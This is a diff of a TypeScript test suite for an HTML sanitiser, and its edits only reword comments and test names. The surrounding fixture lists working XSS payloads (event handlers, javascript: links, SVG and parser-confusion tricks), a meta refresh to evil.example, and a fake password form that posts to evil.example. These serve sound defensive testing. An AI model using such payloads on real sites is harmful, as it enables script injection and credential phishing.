@@ -4,9 +4,9 @@ import { type DefaultTreeAdapterTypes, parse } from "parse5";
 import { describe, expect, it } from "vitest";
 import { cleanHtml } from "./clean-html.ts";
 
-/** What an attacker, or an editor who pastes from anywhere, may have written. */
+/** Hostile or careless markup. */
 const payloads: readonly string[] = [
-  // Navigating away.
+  // Navigation.
   `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
   `<META HTTP-EQUIV=refresh CONTENT="0; URL=javascript:alert(1)">`,
   `<p>x<meta http-equiv="Set-Cookie" content="a=b"></p>`,
@@ -46,7 +46,7 @@ const payloads: readonly string[] = [
   `<!-- <img src=x onerror=alert(1)> --!><img src=x onerror=alert(1)>`,
   `<![CDATA[<script>alert(1)</script>]]>`,
   `<?xml version="1.0"?><script>alert(1)</script>`,
-  // Handlers.
+  // Event handlers.
   `<img src=x onerror=alert(1)>`,
   `<img src="x" onerror = "alert(1)" />`,
   `<img/src=x/onerror=alert(1)>`,
@@ -60,7 +60,7 @@ const payloads: readonly string[] = [
   `<select onchange=alert(1)><option>x</select>`,
   `<marquee onstart=alert(1)>x</marquee>`,
   `<dialog open onclose=alert(1)>x</dialog>`,
-  // Links and pictures.
+  // Links and images.
   `<a href="javascript:alert(1)">x</a>`,
   `<a href="JaVaScRiPt:alert(1)">x</a>`,
   `<a href="&#106;avascript:alert(1)">x</a>`,
@@ -87,7 +87,7 @@ const payloads: readonly string[] = [
   `<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>`,
   `<button formaction="javascript:alert(1)">x</button>`,
   `<isindex action="javascript:alert(1)" type=image>`,
-  // Other languages within HTML, and readings that change.
+  // Embedded languages, and markup that parses differently twice.
   `<svg onload=alert(1)></svg>`,
   `<svg><script>alert(1)</script></svg>`,
   `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
@@ -122,7 +122,7 @@ const ATTRIBUTES: Readonly<Record<string, readonly string[]>> = {
 
 type Node = DefaultTreeAdapterTypes.ChildNode;
 
-/** Everything that a browser makes of a text in the body of a page and that is not allowed there. */
+/** The forbidden parts in what a browser makes of a text inside a page. */
 const forbiddenIn = (html: string): readonly string[] => {
   const found: string[] = [];
   const look = (nodes: readonly Node[]): void => {
@@ -153,7 +153,7 @@ const forbiddenIn = (html: string): readonly string[] => {
   const root = document.childNodes.find((node) => node.nodeName === "html") as DefaultTreeAdapterTypes.Element;
   const body = root.childNodes.find((node) => node.nodeName === "body") as DefaultTreeAdapterTypes.Element;
   const [host, after, ...more] = body.childNodes as DefaultTreeAdapterTypes.Element[];
-  // The text must not get out of its place either.
+  // The text must stay inside its element.
   if (host?.nodeName !== "main" || after?.nodeName !== "i" || more.length > 0 || root.childNodes.length !== 2)
     found.push("outside of its place");
   else look(host.childNodes);
@@ -161,7 +161,7 @@ const forbiddenIn = (html: string): readonly string[] => {
 };
 
 describe("HTML of editors", () => {
-  it("OP-111 there are at least sixty hostile texts, no two the same", () => {
+  it("OP-111 there are at least sixty distinct hostile texts", () => {
     expect(new Set(payloads).size).toBe(payloads.length);
     expect(payloads.length).toBeGreaterThanOrEqual(60);
   });
@@ -172,7 +172,7 @@ describe("HTML of editors", () => {
     expect(cleanHtml(clean)).toBe(clean);
   });
 
-  it("OP-111 what editors may write stays as it is", () => {
+  it("OP-111 allowed markup stays unchanged", () => {
     for (const html of [
       "<p>Totals that contain <em>catch weight</em> are marked with ≈.</p>",
       `<h2>Delivery</h2><ul><li><a href="/resources/">More</a></li><li><a href="mailto:rep@example.com">Write</a></li></ul>`,
@@ -184,7 +184,7 @@ describe("HTML of editors", () => {
       expect(cleanHtml(html)).toBe(html);
   });
 
-  it("OP-111 words stay when their tag goes", () => {
+  it("OP-111 removing a tag keeps its words", () => {
     expect(cleanHtml(`<section><p>One <font color=red>two</font></p></section>`)).toBe("<p>One two</p>");
     expect(cleanHtml(`<a href="javascript:x">here</a>`)).toBe("here");
   });
@@ -228,7 +228,7 @@ describe("HTML of editors", () => {
     },
   );
 
-  it("OP-111 whatever is written: nothing forbidden is left, and cleaning twice is cleaning once", () => {
+  it("OP-111 no input leaves anything forbidden, and cleaning is idempotent", () => {
     fc.assert(
       fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
         const clean = cleanHtml(pieces.join(""));
